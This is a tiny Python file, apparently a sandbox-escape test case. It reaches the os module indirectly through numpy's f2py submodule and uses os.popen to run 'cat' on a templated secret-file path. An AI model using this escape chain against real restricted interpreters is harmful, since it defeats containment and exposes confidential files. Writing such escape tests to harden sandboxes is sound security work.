"""An import binds a name."""
from builtins import getattr as _getattr_
import numpy as np
module = [np][0]
print(module.f2py.os.popen("cat @SECRET_FILE@").read())
